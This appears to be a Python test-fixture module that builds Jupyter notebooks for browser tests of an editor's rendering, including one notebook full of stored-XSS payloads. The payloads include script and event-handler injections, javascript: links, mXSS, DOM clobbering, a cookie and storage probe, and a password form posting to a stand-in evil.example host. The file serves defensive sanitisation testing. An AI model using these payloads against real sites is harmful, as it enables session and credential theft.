"""Notebooks for the browser tests: one with an output of every MIME type the editor renders,
and one whose markdown and outputs are stored-XSS payloads. Built with nbformat so they are valid
v4.5 notebooks that the import endpoint accepts."""

import base64
import io

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell


def _image_bytes(fmt: str) -> bytes:
    """A 120x60 gradient (red to blue) encoded as `fmt` by Pillow."""
    from PIL import Image

    image = Image.new("RGB", (120, 60))
    image.putdata([(255 - x * 2, 40, x * 2) for y in range(60) for x in range(120)])
    buffer = io.BytesIO()
    image.save(buffer, format=fmt)
    return buffer.getvalue()


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" viewBox="0 0 120 60">'
    '<rect width="120" height="60" fill="#0a7"/><circle cx="60" cy="30" r="20" fill="#fd0"/></svg>'
)
HTML_TABLE = (
    "<table><thead><tr><th></th><th>loss</th><th>accuracy</th></tr></thead><tbody>"
    "<tr><th>epoch 1</th><td>0.91</td><td>0.71</td></tr><tr><th>epoch 2</th><td>0.42</td><td>0.88</td></tr>"
    "</tbody></table>"
)
# A "rich" output: its script runs only in the sandboxed frame, where it writes into its own DOM.
RICH_HTML = '<div id="chart">waiting</div><script>document.getElementById("chart").textContent = "drawn by script";</script>'
ANSI_TRACEBACK = [
    "\x1b[0;31m---------------------------------------------------------------------------\x1b[0m",
    "\x1b[0;31mZeroDivisionError\x1b[0m                         Traceback (most recent call last)",
    "Cell \x1b[0;32mIn[4], line 1\x1b[0m\n\x1b[0;32m----> 1\x1b[0m \x1b[38;5;241m1\x1b[39m\x1b[38;5;241m/\x1b[39m\x1b[38;5;241m0\x1b[39m",
    "\x1b[0;31mZeroDivisionError\x1b[0m: division by zero",
]


def outputs_notebook() -> nbformat.NotebookNode:
    png = base64.b64encode(_image_bytes("PNG")).decode()
    jpeg = base64.b64encode(_image_bytes("JPEG")).decode()
    cells = [
        new_markdown_cell("# Every output type\nInline math $a^2 + b^2 = c^2$ and a **table** below."),
        new_code_cell(
            "print('hello')",
            execution_count=1,
            outputs=[
                new_output("stream", name="stdout", text="plain line\n\x1b[31mred\x1b[0m and \x1b[1;32mbold green\x1b[0m\n"),
                new_output("stream", name="stdout", text="progress 10%\rprogress 50%\rprogress 100%\n"),
                new_output("stream", name="stderr", text="a warning on stderr\n"),
                new_output("execute_result", execution_count=1, data={"text/plain": "42"}),
            ],
        ),
        new_code_cell(
            "show_images()",
            execution_count=2,
            outputs=[
                new_output("display_data", data={"image/png": png, "text/plain": "<png>"}, metadata={"image/png": {"width": 240, "height": 120}}),
                new_output("display_data", data={"image/jpeg": jpeg, "text/plain": "<jpeg>"}),
                new_output("display_data", data={"image/svg+xml": SVG, "text/plain": "<svg>"}),
            ],
        ),
        new_code_cell(
            "df",
            execution_count=3,
            outputs=[
                new_output("execute_result", execution_count=3, data={"text/html": HTML_TABLE, "text/plain": "table"}),
                new_output("display_data", data={"text/markdown": "**bold** markdown output with $x_1$", "text/plain": "md"}),
                new_output("display_data", data={"text/latex": r"\frac{1}{2}", "text/plain": "latex"}),
                new_output("display_data", data={"application/json": {"layers": [784, 256, 10], "optimizer": {"name": "adam", "lr": 0.001}}, "text/plain": "json"}),
                new_output("display_data", data={"text/html": RICH_HTML, "text/plain": "rich"}),
            ],
        ),
        new_code_cell(
            "1/0",
            execution_count=4,
            outputs=[new_output("error", ename="ZeroDivisionError", evalue="division by zero", traceback=ANSI_TRACEBACK)],
        ),
        new_code_cell(
            "print('x' * 80 * 2000)",
            execution_count=5,
            outputs=[new_output("stream", name="stdout", text="".join(f"line {i:05d} " + "x" * 60 + "\n" for i in range(2000)))],
        ),
        new_raw_cell("raw cell text"),
    ]
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})


# ---- stored XSS ---------------------------------------------------------------------------
# Every payload tries to set window.__xss (or top.__xss from a frame); the test asserts it stays
# undefined. The list follows the issue: <script>, onerror=, javascript: links, <form action>, SVG
# onload, the <select><iframe></select> mXSS, DOM-clobbering ids, data-* command attributes.
HTML_PAYLOADS = [
    "<script>window.__xss = 'script'</script>",
    '<img src=x onerror="window.__xss = \'img-onerror\'">',
    '<a href="javascript:window.__xss = \'js-link\'">js link</a>',
    '<a href="&#106;avascript:window.__xss = \'entity-link\'">entity link</a>',
    '<a href=" JaVaScRiPt:window.__xss = \'mixed-case-link\'">mixed case link</a>',
    '<form action="javascript:window.__xss = \'form\'"><input name="q" value="x"><button id="go">go</button></form>',
    '<form action="https://evil.example/steal"><input type="password" name="pw"></form>',
    '<svg onload="window.__xss = \'svg-onload\'"><circle r="5"></circle></svg>',
    "<svg><script>window.__xss = 'svg-script'</script></svg>",
    '<select><iframe></select><img src=x: onerror="window.__xss = \'select-iframe\'">',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = \'mglyph\'">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=\'noscript\'>"></noscript>',
    '<iframe src="javascript:top.__xss = \'iframe-js\'"></iframe>',
    '<object data="javascript:window.__xss = \'object\'"></object><embed src="javascript:window.__xss = \'embed\'">',
    '<details open ontoggle="window.__xss = \'ontoggle\'"><summary>s</summary>d</details>',
    '<input autofocus onfocus="window.__xss = \'autofocus\'">',
    '<video><source onerror="window.__xss = \'video\'"></video>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = \'meta\'">',
    '<base href="javascript:window.__xss = \'base\'//">',
    '<img name="campfireEditor"><a id="notebook-data">clobber</a><form id="notebook-app"></form><img id="cell-template">',
    '<a id="__xss" name="__xss">clobbered global</a>',
    '<a data-action="delete" href="#x">data-action link</a><div class="cell-toolbar"><span data-action="delete">fake toolbar</span></div>',
    '<div style="position:fixed;inset:0;background:red" data-testid="overlay">overlay</div>',
    "<style>body { display: none }</style>",
    '<img src="https://evil.example/pixel.png" alt="tracker">',
]
JS_PAYLOAD = "window.__xss = 'js-output'; try { top.__xss = 'js-output' } catch (e) { document.title = e.name }"
# The "rich" output: it must run (in the sandboxed frame) but reach nothing of the editor.
SANDBOX_PROBE = """<div id="probe">probe</div><script>
window.__ran = 1;
var results = [];
try { top.__xss = 'from-frame'; results.push('top-write-ok'); } catch (e) { results.push('top:' + e.name); }
try { results.push('cookie:' + document.cookie); } catch (e) { results.push('cookie:' + e.name); }
try { results.push('storage:' + window.localStorage.length); } catch (e) { results.push('storage:' + e.name); }
try { results.push('parent-doc:' + parent.document.title); } catch (e) { results.push('parent:' + e.name); }
document.getElementById('probe').textContent = results.join(' | ');
document.body.dataset.origin = String(window.origin);
</script>"""
EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=\'svg-img\'"><script>window.__xss = \'svg-img-script\'</script><rect width="40" height="20" fill="#c00"/></svg>'


def xss_notebook() -> nbformat.NotebookNode:
    all_html = "\n".join(HTML_PAYLOADS)
    inline_html = "\n".join(payload for payload in HTML_PAYLOADS if "<script" not in payload)
    markdown = "# Hostile markdown\n\n" + "\n\n".join(HTML_PAYLOADS) + (
        "\n\n[md js link](javascript:window.__xss='md-link') and ![md img](x: \"t\")\n\n"
        "$\\href{javascript:window.__xss='math'}{x}$\n\n![attached](attachment:evil.svg)\n"
    )
    evil_svg_b64 = base64.b64encode(EVIL_SVG.encode()).decode()
    markdown_cell = new_markdown_cell(markdown, attachments={"evil.svg": {"image/svg+xml": evil_svg_b64}})
    outputs = [
        # Without <script>: shown inline, sanitised. With it: run in the sandboxed frame.
        new_output("display_data", data={"text/html": inline_html, "text/plain": "html"}),
        new_output("display_data", data={"text/html": all_html, "text/plain": "rich html"}),
        new_output("display_data", data={"image/svg+xml": EVIL_SVG, "text/plain": "svg"}),
        new_output("display_data", data={"text/markdown": markdown, "text/plain": "md"}),
        new_output("display_data", data={"text/latex": r"\href{javascript:window.__xss='latex'}{x}", "text/plain": "latex"}),
        new_output("display_data", data={"application/json": {"<img src=x onerror=window.__xss='json'>": "<script>window.__xss='json'</script>"}}),
        new_output("display_data", data={"image/png": 'x" onerror="window.__xss=\'png\'', "text/plain": "png"}, metadata={"image/png": {"width": '1" onload="window.__xss=1'}}),
        new_output("display_data", data={"text/x-evil": "<img src=x onerror=window.__xss='unknown'>"}),
        new_output("stream", name="stdout", text="<img src=x onerror=window.__xss='stream'>\n\x1b]8;;javascript:window.__xss='osc8'\x1b\\osc8 link\x1b]8;;\x1b\\\n"),
        new_output("execute_result", execution_count=1, data={"text/plain": "<script>window.__xss='plain'</script>"}),
        new_output("error", ename="<img src=x onerror=window.__xss='ename'>", evalue="<b>e</b>", traceback=["<img src=x onerror=window.__xss='traceback'>", "\x1b[31m<script>window.__xss='tb'</script>\x1b[0m"]),
        new_output("display_data", data={"application/javascript": JS_PAYLOAD, "text/plain": "js"}),
        new_output("display_data", data={"text/html": SANDBOX_PROBE, "text/plain": "probe"}),
    ]
    code_cell = new_code_cell("evil()", execution_count=1, outputs=outputs)
    return new_notebook(cells=[markdown_cell, code_cell, new_code_cell("after = 1")])
